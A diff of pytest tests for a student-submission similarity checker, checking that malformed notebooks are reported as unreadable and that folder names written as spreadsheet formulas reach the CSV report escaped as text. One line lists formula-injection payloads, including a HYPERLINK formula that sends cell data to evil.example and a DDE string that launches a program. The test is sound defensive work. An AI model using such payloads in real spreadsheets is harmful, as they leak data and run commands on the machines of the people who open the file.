@@ -194,3 +194,37 @@ def test_similarity_command(tmp_path):
                            "--assignment", "qwen2_lora"], capture_output=True, text=True, timeout=300)
     assert done.returncode == 0 and "2 flagged pair(s)" in done.stdout, done.stdout + done.stderr
     assert (tmp_path / "out" / "similarity.html").is_file()
+
+
+# folder names hold no "/": the formulas a student can still spell as one
+FORMULA_NAMES = ('=HYPERLINK("http:\\evil.example?leak="&A1,"click")', "@SUM(1+1)*cmd|' -C calc'!A0", "+1+cmd", "-2+3")
+
+
+def _no_formula(path):
+    with path.open(encoding="utf-8", newline="") as f:
+        cells = [cell for row in csv.reader(f) for cell in row]
+    bad = [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r") or (c[:1] == "-" and not c[1:].replace(".", "").isdigit())]
+    assert not bad, bad
+    return cells
+
+
+def test_malformed_notebooks_and_formula_names_never_blind_the_report(tmp_path):
+    """One student's malformed notebooks (JSON nested past Python's limit, a cell source of numbers)
+    are listed as unreadable and everything else is still compared: the planted copy is flagged.
+    Folder names that a spreadsheet would run as formulas reach similarity.csv as text."""
+    root = _class(tmp_path)
+    li = root / "li" / "qwen2_lora"
+    (li / "deep.ipynb").write_text('{"cells": ' + "[" * 100_000 + "]" * 100_000 + "}", encoding="utf-8")
+    (li / "numbers.ipynb").write_text(json.dumps({"cells": [{"cell_type": "code", "source": [1, 2, 3]}]}),
+                                      encoding="utf-8")
+    (root / "chen").rename(root / FORMULA_NAMES[0])   # one of the two who hand in the same weights
+    out = tmp_path / "reports"
+    out.mkdir()
+    write_report(sorted(root.iterdir()), out, ("qwen2_lora",))
+    html = (out / "similarity.html").read_text(encoding="utf-8")
+    assert "li/deep.ipynb" in html and "li/numbers.ipynb" in html, html[:3000]
+    cells = _no_formula(out / "similarity.csv")
+    assert "'" + FORMULA_NAMES[0] in cells
+    with (out / "similarity.csv").open(encoding="utf-8") as f:
+        flagged = [{r["student_a"], r["student_b"]} for r in csv.DictReader(f) if r["flagged"] == "1"]
+    assert {"li", "wang"} in flagged and {"'" + FORMULA_NAMES[0], "zhou"} in flagged, flagged
